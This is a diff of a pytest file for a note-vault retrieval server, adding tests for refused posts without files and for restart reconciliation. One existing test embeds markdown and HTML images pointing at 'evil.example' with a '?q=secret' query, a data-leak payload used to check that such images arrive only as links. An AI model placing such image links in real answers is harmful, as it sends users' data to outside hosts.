@@ -14,7 +14,16 @@ import time
 import httpx
 import pytest
 
-from test_server_helpers import LiveServer, read_sse, server_settings, wait_idle
+from test_server_helpers import (
+    LiveServer,
+    index_snapshot,
+    read_sse,
+    rebuild_snapshot,
+    server_settings,
+    snapshot_diff,
+    wait_idle,
+    wait_until,
+)
 from vault_rag.api import create_app
 
 from fakes.openai_server import FakeOpenAIServer
@@ -79,6 +88,8 @@ def test_an_unfinished_body_is_answered_408_and_the_connection_closed(live):
 
 
 def test_a_slow_but_finished_body_and_a_long_stream_are_not_cut(live, client):
+    (live.state.index.vault_root / "Slow.md").write_text("# Slow\n\nA sloth moves slowly.\n")
+
     def slow():  # the whole body inside the limit, in pieces
         yield b'{"notes": [{"path": "Slow.md", '
         time.sleep(0.3)
@@ -163,6 +174,9 @@ def test_remote_images_in_an_answer_arrive_as_links(live, client):
         "![quokka photo](https://evil.example/leak.png?q=secret) "
         '<img src="https://evil.example/pixel.gif" alt="pixel"> Quokkas eat leaves.\n'
     )
+    file = live.state.index.vault_root / "Animals" / "Quokka.md"
+    file.parent.mkdir(exist_ok=True)
+    file.write_text(content, encoding="utf-8")  # a post needs its file, as in Obsidian
     note = {"path": "Animals/Quokka.md", "content": content}
     assert client.put("/v1/notes", json={"notes": [note]}, params={"wait": "true"}).is_success
     events = ask_events(live, "Where does the quokka smile on Rottnest island?")
@@ -206,3 +220,51 @@ def test_a_stale_put_is_refused_and_the_disk_version_kept(live, client):
         "indexed",
         "unchanged",
     )
+
+
+# -- item 4: a post for a path with no file ------------------------------------------------
+def test_a_post_without_a_file_is_refused_and_a_restart_drops_nothing_silently(
+    tmp_path, fake, caplog
+):
+    vault = tmp_path / "vault"
+    (vault / "Zoo").mkdir(parents=True)
+    (vault / "Zoo" / "Lemur.md").write_text("# Lemur\n\nLemurs live on Madagascar.\n")
+    race = vault / "Zoo" / "Race.md"
+    race.write_text("# Race\n\nThe first version.\n")
+    data = tmp_path / "data"
+    settings = server_settings(vault, data, fake, server_watch=False)
+    with LiveServer(create_app(settings, token=TOKEN), token=TOKEN) as live, live.client() as c:
+        wait_idle(live)
+        lemur = live.state.index.manifest.note("Zoo/Lemur.md")
+        ghost = {"path": "Zoo/Ghost.md", "content": "# Ghost\n\nNo file holds me.\n"}
+        edit = {"path": "Zoo/Lemur.md", "content": "# Lemur\n\nA new lemur fact.\n"}
+        refused = c.put("/v1/notes", json={"notes": [edit, ghost]})
+        assert refused.status_code == 404, refused.text
+        body = refused.json()
+        assert set(body) == ERROR_KEYS and body["code"] == "no_file"
+        assert body["detail"] == {"paths": ["Zoo/Ghost.md"]}
+        assert "no file in the sidecar's vault" in body["message"]
+        # Nothing of the batch was stored, so a restart has nothing posted to drop.
+        assert live.state.index.manifest.note("Zoo/Ghost.md") is None
+        assert live.state.index.manifest.note("Zoo/Lemur.md") == lemur
+        assert "Zoo/Ghost.md" not in c.get("/v1/notes/hashes").json()["hashes"]
+        # A save racing its post (the post is newer than the file): indexed from the post,
+        # the file to be read again later.
+        newer = race.stat().st_mtime_ns / 1e6 + 5000
+        post = {"path": "Zoo/Race.md", "content": "# Race\n\nThe second version.\n", "mtime": newer}
+        result = c.put("/v1/notes", json={"notes": [post]}).json()["results"][0]
+        assert (result["status"], result["source"]) == ("indexed", "posted")
+        assert live.state.index.manifest.note("Zoo/Race.md").file_hash.startswith("posted:")
+    race.unlink()  # deleted while the sidecar was down: the vault wins, and the log says so
+    caplog.set_level("INFO", logger="vault_rag")
+    with LiveServer(create_app(settings, token=TOKEN), token=TOKEN) as live, live.client() as c:
+        wait_idle(live)
+        wait_until(lambda: live.state.writer.status.reconciled, 30)
+        last_run = c.get("/v1/status").json()["last_run"]
+        assert "deleted 1 (posted with no file 1)" in last_run, last_run
+        got = index_snapshot(live.state.index)
+    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
+    assert any("Zoo/Race.md" in w and "posted while no file existed" in w for w in warnings)
+    assert any("deleted 1 (posted with no file 1)" in r.getMessage() for r in caplog.records)
+    clean = rebuild_snapshot(settings, tmp_path / "clean")
+    assert snapshot_diff(got, clean) == {}
